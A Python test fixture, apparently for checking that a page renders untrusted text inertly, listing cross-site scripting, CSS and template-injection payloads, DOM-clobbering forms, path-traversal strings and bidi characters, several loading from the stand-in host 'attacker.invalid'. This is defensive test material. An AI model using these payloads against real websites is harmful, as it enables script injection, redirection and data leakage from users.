"""Texts that would run, load, send or hide something if a page took them for markup."""

from __future__ import annotations

RUN = "window.owned=document.title='owned'"
AWAY = "http://attacker.invalid/x"
PAYLOADS = [
    "plain",
    f"<script>{RUN}</script>",
    f"</script></textarea></pre></title><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={AWAY}>",
    f"'\"><svg onload={RUN}><animate onbegin={RUN} attributeName=x>",
    (
        f"<svg><use href='{AWAY}#a'/><foreignObject><iframe "
        f"src='{AWAY}'></iframe></foreignObject></svg>"
    ),
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    (
        f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}/'><link rel=prefetch "
        f"href={AWAY}>"
    ),
    f"<style>@import url({AWAY}); body {{ background: url({AWAY}) }}</style>",
    f"x; background: url({AWAY}); --x: url({AWAY})",
    f"' onmouseover='{RUN}' onfocus='{RUN}' autofocus x='",
    f'{{{{constructor.constructor("{RUN}")()}}}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}}',
    (
        f"<form action={AWAY}><button id=save>Save</button><input name=querySelector></form><a "
        f"id=about href=javascript:{RUN}>"
    ),
    "__proto__",
    "constructor",
    "\u202egnp.exe\u2066 \u200f\u061c \u2028\u2029 \u0000\u0007\ufeff\uffff",
    "../../../../etc/passwd",
    "%2e%2e%2fsecret?x=1#y",
    'a\' "quoted" name\\',
    "Ω" * 20_000 + f"<img src=x onerror={RUN}>",
]
# How many there are of what could load, send or hide something: the same for every text.
COUNTS = """() => Object.fromEntries([...document.querySelectorAll(
  "script, style, link, meta, base, iframe, object, embed, form, input, textarea, a, animate, use, foreignObject")]
  .map((node) => node.tagName).sort().map((name, _, all) => [name, all.filter((other) => other === name).length]))"""  # noqa: E501
